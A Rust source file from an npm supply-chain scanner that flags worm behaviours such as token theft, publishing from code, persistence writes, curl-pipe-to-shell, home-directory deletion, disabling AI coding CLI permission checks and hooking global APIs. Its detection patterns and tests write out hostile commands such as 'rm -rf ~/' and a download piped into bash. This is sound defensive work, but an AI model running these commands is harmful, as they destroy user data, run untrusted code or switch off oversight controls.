//! The moves of the 2025 npm worms, as general patterns: spawning secret scanners, reading the
//! GitHub CLI's token, driving AI coding CLIs with their permission checks off, publishing
//! packages from code, writing CI workflows and other places that run code later (shell
//! profiles, `.claude/`, `.vscode/tasks.json`, LaunchAgents, systemd units), piping a download
//! into a shell, and deleting the home directory. Also code that replaces global APIs (`fetch`,
//! `XMLHttpRequest.prototype.*`, `window.ethereum`, `Module._load`, `Function.prototype.*`) and
//! cryptocurrency wallet addresses, which the release diff ([`crate::diff`]) weighs.
//!
//! A move in a file that runs at install time, or in obfuscated code, is an error; elsewhere a
//! warning (release and automation tools publish packages and write workflows by design).

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;
use tarsier_model::Severity;

use crate::caps::Cap;
use crate::rule_ids::WORM_MOVE;
use crate::{Ctx, text};

/// One move found in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Move {
    /// What it is, stable (`gh auth token`).
    pub what: &'static str,
    /// Start (byte offset).
    pub start: usize,
    /// End.
    pub end: usize,
}

/// What a pattern needs of the rest of the file to count.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Needs {
    Nothing,
    ChildProcess,
    FileWrite,
}

fn re(p: &str) -> Regex {
    Regex::new(p).unwrap_or_else(|_| Regex::new(r"[^\s\S]").unwrap_or_else(|_| unreachable!()))
}

static MOVES: LazyLock<Vec<(Regex, &'static str, Needs)>> = LazyLock::new(|| {
    [
        (
            r"(?-u:\b)(?:trufflehog|gitleaks|detect-secrets|noseyparker)(?-u:\b)",
            "runs a secret scanner",
            Needs::ChildProcess,
        ),
        (r"(?-u:\b)gh\s+auth\s+token(?-u:\b)", "reads the GitHub CLI token (`gh auth token`)", Needs::Nothing),
        (
            r"--dangerously-skip-permissions(?-u:\b)|--yolo(?-u:\b)|--trust-all-tools(?-u:\b)|--dangerously-bypass-approvals-and-sandbox(?-u:\b)|--allow-all-tools(?-u:\b)",
            "runs an AI coding CLI with its permission checks off",
            Needs::Nothing,
        ),
        (
            r#"(?-u:\b)npm\s+publish(?-u:\b)|(?-u:\b)npm['"`]\s*,\s*\[\s*['"`]publish(?-u:\b)"#,
            "runs `npm publish`",
            Needs::ChildProcess,
        ),
        (
            r"(?-u:\b)npm\s+version\s+(?:patch|minor|major|prepatch|preminor|premajor|prerelease)(?-u:\b)",
            "bumps its package version (`npm version`)",
            Needs::ChildProcess,
        ),
        (
            r"\.github/workflows(?-u:\b)",
            "writes GitHub Actions workflows",
            Needs::FileWrite,
        ),
        (
            r"[/~]\.(?:bashrc|zshrc|bash_profile|zprofile|zshenv|profile)(?-u:\b)",
            "writes a shell profile",
            Needs::FileWrite,
        ),
        (r"\.claude/", "writes AI assistant settings (`.claude/`)", Needs::FileWrite),
        (r"\.vscode/tasks\.json", "writes editor tasks (`.vscode/tasks.json`)", Needs::FileWrite),
        (r"(?-u:\b)LaunchAgents(?-u:\b)", "installs a macOS LaunchAgent", Needs::FileWrite),
        (
            r"systemd/(?:user|system)(?-u:\b)|\.config/systemd(?-u:\b)",
            "installs a systemd unit",
            Needs::FileWrite,
        ),
        (
            r#"(?-u:\b)(?:curl|wget)(?-u:\b)[^|;&'"`\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh(?-u:\b)"#,
            "pipes a download into a shell",
            Needs::Nothing,
        ),
        (
            r#"(?-u:\b)rm\s+-(?:rf|fr|Rf|rF|r)\s+(?:--no-preserve-root\s+)?(?:~|\$HOME|\$\{HOME\}|/\*?)/?(?:[\s'"`;&|)]|$)|(?-u:\b)(?:rmSync|rmdirSync|rm|rimraf(?:\.sync)?)\s*\(\s*(?:os\s*\.\s*)?homedir\s*\(\s*\)|(?-u:\b)del\s+/[sSqQ]\s+/[sSqQ]\s+%USERPROFILE%"#,
            "deletes the home directory",
            Needs::Nothing,
        ),
    ]
    .into_iter()
    .map(|(p, w, n)| (re(p), w, n))
    .collect()
});

/// Code that replaces a global API.
static HOOKS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    [
        (
            r"(?-u:\b)(?:window|globalThis|self|global)\s*\.\s*fetch\s*=[^=]",
            "replaces fetch",
        ),
        (
            r"(?-u:\b)XMLHttpRequest\s*\.\s*prototype\s*\.\s*(?:open|send|setRequestHeader)\s*=[^=]",
            "replaces XMLHttpRequest.prototype methods",
        ),
        (r"(?-u:\b)window\s*\.\s*ethereum(?-u:\b)", "uses window.ethereum"),
        (
            r"(?-u:\b)Module\s*\.\s*(?:_load|prototype\s*\.\s*require)\s*=[^=]",
            "replaces the module loader (Module._load / require)",
        ),
        (
            r"(?-u:\b)Function\s*\.\s*prototype\s*\.\s*(?:call|apply|bind|toString)\s*=[^=]",
            "replaces Function.prototype methods",
        ),
    ]
    .into_iter()
    .map(|(p, w)| (re(p), w))
    .collect()
});

static WALLET: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?-u:\b)0x[a-fA-F0-9]{40}(?-u:\b)|(?-u:\b)bc1[02-9ac-hj-np-z]{25,59}(?-u:\b)")
});

/// The worm moves in a text; `caps` are the capabilities of the same file (some moves count
/// only with a child process or a file write beside them).
pub fn worm_moves(code: &str, caps: &BTreeSet<Cap>) -> Vec<Move> {
    let mut out = Vec::new();
    for (pattern, what, needs) in MOVES.iter() {
        let ok = match needs {
            Needs::Nothing => true,
            Needs::ChildProcess => caps.contains(&Cap::ChildProcess),
            Needs::FileWrite => caps.contains(&Cap::FileWrite),
        };
        if !ok {
            continue;
        }
        if let Some(m) = pattern.find(code) {
            out.push(Move {
                what,
                start: m.start(),
                end: m.end(),
            });
        }
    }
    out.sort_by_key(|m| m.start);
    out
}

/// The worm moves in a shell command (a `scripts` value): every pattern counts.
pub fn shell_moves(command: &str) -> Vec<Move> {
    let all: BTreeSet<Cap> = [Cap::ChildProcess, Cap::FileWrite].into_iter().collect();
    worm_moves(command, &all)
}

/// Code in `code` that replaces global APIs.
pub fn global_hooks(code: &str) -> Vec<Move> {
    HOOKS
        .iter()
        .filter_map(|(pattern, what)| {
            pattern.find(code).map(|m| Move {
                what,
                start: m.start(),
                end: m.end(),
            })
        })
        .collect()
}

/// The distinct Ethereum and Bitcoin (bech32) wallet addresses in `code`, with the first one's
/// offset.
pub fn wallet_addresses(code: &str) -> (usize, Option<usize>) {
    let mut seen = BTreeSet::new();
    let mut first = None;
    for m in WALLET.find_iter(code) {
        first.get_or_insert(m.start());
        seen.insert(m.as_str());
        if seen.len() >= 1000 {
            break;
        }
    }
    (seen.len(), first)
}

/// The text to look for moves in: the deobfuscated text when there is one.
fn moves_of(ctx: &Ctx<'_, '_>, path: &str, code: &str) -> Vec<Move> {
    let caps: BTreeSet<Cap> = ctx.hits(path).iter().map(|h| h.cap).collect();
    match ctx.decoded(path) {
        Some(d) => worm_moves(&d.text, &caps)
            .into_iter()
            .map(|m| Move {
                start: d.original_offset(m.start),
                end: d.original_offset(m.end).max(d.original_offset(m.start)),
                what: m.what,
            })
            .collect(),
        None => worm_moves(code, &caps),
    }
}

pub(crate) fn check(ctx: &mut Ctx<'_, '_>) {
    let mut reports = Vec::new();
    for (path, code) in ctx.js_files() {
        let found = moves_of(ctx, path, code);
        let Some(first) = found.first() else { continue };
        let install_time = ctx.install_files.contains(path);
        let hidden = ctx.decoded(path).is_some() || ctx.obfuscated.contains(path);
        let severity = if install_time || hidden {
            Severity::Error
        } else {
            Severity::Warning
        };
        let lines = text::LineIndex::new(code);
        let list: Vec<String> = found
            .iter()
            .map(|m| format!("{} (line {})", m.what, lines.line(m.start)))
            .collect();
        let mut why = Vec::new();
        if install_time {
            why.push("runs at install time");
        }
        if hidden {
            why.push("is obfuscated");
        }
        let why = if why.is_empty() {
            String::new()
        } else {
            format!("; the file {}", why.join(" and "))
        };
        let message = format!("{path} in {} {}{why}", ctx.package.spec(), list.join(", "));
        let matched = found.iter().map(|m| m.what).collect::<Vec<_>>().join(", ");
        reports.push((path, first.start, first.end, severity, message, matched));
    }
    for (path, start, end, severity, message, matched) in reports {
        ctx.report_in(WORM_MOVE, severity, message, path, start, end, &matched);
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn whats(code: &str, caps: &[Cap]) -> Vec<&'static str> {
        worm_moves(code, &caps.iter().copied().collect())
            .into_iter()
            .map(|m| m.what)
            .collect()
    }

    #[test]
    fn moves_need_their_companions() {
        let cp = [Cap::ChildProcess];
        assert_eq!(whats("exec('trufflehog filesystem /')", &cp).len(), 1);
        assert!(whats("// see trufflehog", &[]).is_empty());
        assert_eq!(whats("execSync('gh auth token')", &[]).len(), 1);
        assert_eq!(
            whats(
                "spawn('claude', ['--dangerously-skip-permissions', '-p', x])",
                &[]
            )
            .len(),
            1
        );
        assert_eq!(whats("spawn('npm', ['publish'])", &cp).len(), 1);
        assert!(whats("'.github/workflows/x.yml'", &[]).is_empty());
        assert_eq!(
            whats(
                "fs.writeFileSync('.github/workflows/x.yml', y)",
                &[Cap::FileWrite]
            )
            .len(),
            1
        );
        assert_eq!(
            whats("exec('curl -fsSL https://x.invalid/install | bash')", &[]).len(),
            1
        );
        assert_eq!(whats("exec('rm -rf ~/')", &[]).len(), 1);
        assert_eq!(
            whats("fs.rmSync(os.homedir(), { recursive: true })", &[]).len(),
            1
        );
        assert!(whats("exec('rm -rf ./build')", &[]).is_empty());
        assert!(whats("exec('rm -rf ~/.cache/foo')", &[]).is_empty());
    }

    #[test]
    fn hooks_and_wallets() {
        let code = "const f = window.fetch; window.fetch = function () {};\n\
            XMLHttpRequest.prototype.send = s;\nif (window.ethereum) {}\n";
        assert_eq!(global_hooks(code).len(), 3);
        assert!(global_hooks("if (a.fetch == b) {}").is_empty());
        let w = "['0x1111111111111111111111111111111111111111','0x2222222222222222222222222222222222222222']";
        assert_eq!(wallet_addresses(w).0, 2);
    }
}
